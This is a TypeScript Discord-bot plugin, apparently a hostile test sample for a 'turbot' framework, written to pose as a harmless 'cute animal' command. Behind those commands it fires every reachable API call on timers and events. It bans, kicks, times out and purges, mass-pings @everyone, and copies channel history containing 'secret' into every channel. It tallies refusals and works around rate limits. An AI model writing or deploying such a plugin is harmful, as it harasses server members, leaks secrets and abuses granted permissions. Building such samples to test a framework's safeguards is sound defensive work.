import { every, on, prefixCommand, slashCommand, TurbotPlugin } from "turbot";

/* A plugin that was merged as a harmless one, and turned bad: it tries everything that it can reach, on everybody, and ignores refusals. */

type Call = (...given: readonly unknown[]) => unknown;

/** Whom, where and what it knows: put in by the play. */
const known: {
  readonly people: readonly string[];
  readonly roles: readonly string[];
  readonly channels: readonly string[];
  readonly guildId: string;
  /** Names of all that the API does. */
  readonly calls: readonly string[];
} = { people: [], roles: [], channels: [], guildId: "", calls: [] };

export default class Turned extends TurbotPlugin {
  static readonly needs = { discord: [], unattended: [] } as const;

  private tried = 0;
  private refused = 0;
  private capped = 0;
  private at = 0;

  cute = slashCommand({ name: "cute", description: "A cute animal" }, async (interaction) => {
    await this.tryAll("asked", interaction, 40);
    await interaction.reply({ content: "🐟", ephemeral: true });
  });

  cuter = prefixCommand({ name: "cuter", description: "A cuter animal" }, (message) =>
    this.tryAll("asked", message, 20),
  );

  heard = on("message", (message) => this.tryAll("event", message, 8));
  reacted = on("reaction", (reaction) => this.tryAll("event", reaction, 4));
  joined = on("memberJoin", (event) => this.tryAll("event", event, 2));
  caught = on("autoModAlert", (alert) => this.tryAll("event", alert, 2));
  always = every("10s", () => this.tryAll("by itself", undefined, 12));

  /** Calls this many of what an object of the API and `this.turbot` can do, going on where it stopped. */
  private async tryAll(how: string, given: object | undefined, most: number): Promise<void> {
    const calls = [...callsOf(given), ...callsOf(this.turbot)];
    for (let count = 0; count < most; count += 1) {
      this.at += 1;
      const [name, call] = calls[this.at % calls.length] ?? [];
      if (name === undefined || call === undefined) continue;
      await this.attempt(() => call(...argumentsFor(name, this.at)));
    }
    const loud = `@everyone @here ${known.people.map((id) => `<@${id}>`).join(" ")} ${known.roles.map((id) => `<@&${id}>`).join(" ")}`;
    const [channelId = ""] = [known.channels[this.at % known.channels.length]];
    await this.attempt(() => this.turbot.send(channelId, loud.slice(0, 1_900)));
    if (this.at % 5 === 0) await this.carry();
    const [tried, refused, capped] = [this.tried, this.refused, this.capped];
    this.tried = 0;
    this.refused = 0;
    this.capped = 0;
    this.turbot.log.info(`tally ${how} ${tried} ${refused} ${capped};`);
  }

  /** Reads wherever it can, and tells it everywhere else. */
  private async carry(): Promise<void> {
    for (const from of known.channels) {
      const page = await this.attempt(() => this.turbot.history(from));
      const text = JSON.stringify(page ?? "").slice(0, 1_500);
      if (!text.includes("secret")) continue;
      for (const to of known.channels) await this.attempt(() => this.turbot.send(to, text));
    }
  }

  private async attempt(act: () => unknown): Promise<unknown> {
    this.tried += 1;
    try {
      return await act();
    } catch (error) {
      this.refused += 1;
      const why = String(error);
      if (/as often as|often enough/.test(why)) this.capped += 1;
      // Its share is used up for a moment: other things are tried then.
      if (/Too many/.test(why)) await new Promise((resolve) => setTimeout(resolve, 700));
      return undefined;
    }
  }
}

/** What an object of the API has of all that the API has. */
function callsOf(given: object | undefined): readonly (readonly [string, Call])[] {
  if (given === undefined) return [];
  const all = given as Readonly<Record<string, Call | undefined>>;
  return known.calls.flatMap((name) => {
    const call = all[name];
    return typeof call !== "function"
      ? []
      : [[name, (...args: readonly unknown[]) => all[name]?.(...args)] as const];
  });
}

function argumentsFor(name: string, turn: number): readonly unknown[] {
  const of = (list: readonly string[], shift = 0) =>
    list[(Math.floor(turn / known.calls.length) * 5 + turn + shift) % list.length] ?? "";
  const [who, role, channel] = [of(known.people), of(known.roles), of(known.channels)];
  const how = { for: "30m", reason: `turned ${turn}`, deleteMessages: "7d" };
  if (/role/i.test(name)) return turn % 2 === 0 ? [role, who] : [role, who, how];
  if (/automodrule$/i.test(name))
    return /^delete/.test(name)
      ? ["words"]
      : [
          {
            name: `r${turn % 9}`,
            finds: { keywords: [`word${turn}`] },
            block: true,
            timeOut: "1d",
            exemptRoles: [role],
          },
        ];
  if (/timeout|kick|ban|warn|nick|unban|move|disconnect/i.test(name))
    return /^(?:timeOut|kick|ban|unban|endTimeOut|warn)$/.test(name) && turn % 3 === 0
      ? [known.guildId, who, how]
      : [who, /nick/i.test(name) ? "Silly" : how];
  if (/letter|dm|direct|write/i.test(name)) return [who, `psst ${turn}`];
  if (/thread|post|ticket/i.test(name))
    return turn % 2 === 0 ? [`thread ${turn}`] : [channel, `thread ${turn}`];
  if (/purge|delete|pin|react|message/i.test(name)) return [channel, "1", "🐟"];
  return turn % 2 === 0 ? [channel, how] : [channel, "30m", how];
}
